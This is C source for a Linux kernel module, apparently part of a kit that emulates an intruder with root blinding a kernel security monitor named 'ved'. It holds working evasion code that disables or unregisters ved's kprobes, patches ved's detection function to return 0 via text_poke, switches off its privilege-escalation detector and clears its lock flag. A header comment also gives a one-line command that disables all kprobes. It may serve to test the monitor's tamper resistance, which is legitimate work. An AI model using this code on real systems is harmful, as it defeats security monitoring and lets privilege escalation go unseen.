// SPDX-License-Identifier: GPL-2.0
/*
 * Blinding the defender: what an intruder with root does to ved before the
 * real attack, each technique aimed at the privilege-escalation detector
 * (ved's "creds") so that an escalation then goes through unseen.
 *
 *   ved_unprobe  every kprobe whose struct lives in ved (found by walking
 *                the kernel's kprobe table under kprobe_mutex) is disabled
 *                with disable_kprobe(), or unregistered with
 *                unregister_kprobe()/unregister_kretprobe() when
 *                ved_unprobe=unregister.
 *   ved_text     the first instruction of ved's function ved_text_fn
 *                (default "detected", through which every creds detection
 *                goes) after its endbr/ftrace site becomes
 *                "xor %eax,%eax; ret": the detector never sees anything.
 *                Written with text_poke() under text_mutex.
 *   ved_config   ved's per-detector mode array ("modes" in ved's data) gets
 *                VED_MODE_OFF (0) for detector ved_config_det (default 1,
 *                creds), by a plain store: no sysctl, no config record.
 *   ved_unlock   ved's lock flag ("locked") is set to 0: ved.lock reads 0
 *                and the sysctls accept writes again.
 * The global switch needs no module: echo 0 >/sys/kernel/debug/kprobes/enabled.
 * Nothing is undone at unload: the tampering outlives vedkit, as it would.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/slab.h>
#include <linux/string.h>

#include "vedkit.h"

#define VK_KPROBE_TABLE_SIZE 64	/* kernel/kprobes.c: 1 << KPROBE_HASH_BITS */
#define VK_MAX_PROBES 128

static char *vk_unprobe_how = "disable";
module_param_named(ved_unprobe, vk_unprobe_how, charp, 0400);
MODULE_PARM_DESC(ved_unprobe, "ved_unprobe: disable (default) or unregister ved's kprobes");

static char *vk_text_fn = "detected";
module_param_named(ved_text_fn, vk_text_fn, charp, 0400);
MODULE_PARM_DESC(ved_text_fn, "ved_text: the ved function made to return 0 at once");

static int vk_config_det = 1;
module_param_named(ved_config_det, vk_config_det, int, 0400);
MODULE_PARM_DESC(ved_config_det, "ved_config: detector number whose mode is set to off (1: creds)");

typedef struct module *(*vk_module_address_t)(unsigned long addr);

/* Is @p in the memory of the module called "ved"? */
static bool vk_in_ved(vk_module_address_t module_address, const void *p)
{
	struct module *mod;
	bool ret;

	preempt_disable();
	mod = module_address((unsigned long)p);
	ret = mod && !strcmp(mod->name, "ved");
	preempt_enable();
	return ret;
}

/* ---- ved_unprobe ---- */

static void vk_unregister(struct kprobe *kp, unsigned long kretprobe_pre)
{
	if ((unsigned long)kp->pre_handler == kretprobe_pre)
		unregister_kretprobe(container_of(kp, struct kretprobe, kp));
	else
		unregister_kprobe(kp);
}

int vk_ved_unprobe_init(void)
{
	vk_module_address_t module_address = (vk_module_address_t)vk_lookup("__module_address");
	struct hlist_head *table = (struct hlist_head *)vk_lookup("kprobe_table");
	struct mutex *kprobe_mutex = (struct mutex *)vk_lookup("kprobe_mutex");
	unsigned long aggr = vk_lookup("aggr_pre_handler");
	unsigned long kretprobe = vk_lookup("pre_handler_kretprobe");
	bool unregister = !strcmp(vk_unprobe_how, "unregister");
	struct kprobe **found, *p, *kp;
	int i, n = 0, done = 0;

	if (!module_address || !table || !kprobe_mutex || !aggr || !kretprobe)
		return -ENOENT;
	if (!unregister && strcmp(vk_unprobe_how, "disable"))
		return -EINVAL;
	found = kcalloc(VK_MAX_PROBES, sizeof(*found), GFP_KERNEL);
	if (!found)
		return -ENOMEM;
	mutex_lock(kprobe_mutex);
	for (i = 0; i < VK_KPROBE_TABLE_SIZE; i++) {
		hlist_for_each_entry(p, &table[i], hlist) {
			if ((unsigned long)p->pre_handler != aggr) {
				if (n < VK_MAX_PROBES && vk_in_ved(module_address, p))
					found[n++] = p;
				continue;
			}
			list_for_each_entry(kp, &p->list, list)
				if (n < VK_MAX_PROBES && vk_in_ved(module_address, kp))
					found[n++] = kp;
		}
	}
	mutex_unlock(kprobe_mutex);
	/* The kprobes API takes kprobe_mutex itself. */
	for (i = 0; i < n; i++) {
		if (unregister) {
			vk_unregister(found[i], kretprobe);
			done++;
		} else if (!disable_kprobe(found[i])) {
			done++;
		}
	}
	kfree(found);
	pr_info("ved_unprobe: %s %d of ved's %d kprobes\n",
		unregister ? "unregistered" : "disabled", done, n);
	return n ? 0 : -ENOENT;
}

/* ---- ved_text ---- */

typedef void *(*vk_text_poke_t)(void *addr, const void *opcode, size_t len);

int vk_ved_text_init(void)
{
	static const u8 ret0[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */
	vk_text_poke_t poke = (vk_text_poke_t)vk_lookup("text_poke");
	struct mutex *text_mutex = (struct mutex *)vk_lookup("text_mutex");
	char name[MODULE_NAME_LEN + KSYM_NAME_LEN];
	u8 *fn;

	snprintf(name, sizeof(name), "ved:%s", vk_text_fn);
	fn = (u8 *)vk_lookup(name);
	if (!fn || !poke || !text_mutex)
		return -ENOENT;
	fn = vk_after_prologue(fn);
	mutex_lock(text_mutex);
	poke(fn, ret0, sizeof(ret0));
	mutex_unlock(text_mutex);
	pr_info("ved_text: %s patched at %pS to return 0\n", name, fn);
	return 0;
}

/* ---- ved_config, ved_unlock ---- */

int vk_ved_config_init(void)
{
	u8 *modes = (u8 *)vk_lookup("ved:modes");

	if (!modes)
		return -ENOENT;
	if (vk_config_det < 1 || vk_config_det > 7)
		return -EINVAL;
	pr_info("ved_config: ved's mode of detector %d: %u -> 0 (off)\n",
		vk_config_det, modes[vk_config_det]);
	WRITE_ONCE(modes[vk_config_det], 0);
	return 0;
}

int vk_ved_unlock_init(void)
{
	int *locked = (int *)vk_lookup("ved:locked");

	if (!locked)
		return -ENOENT;
	pr_info("ved_unlock: ved's lock flag %d -> 0\n", *locked);
	WRITE_ONCE(*locked, 0);
	return 0;
}
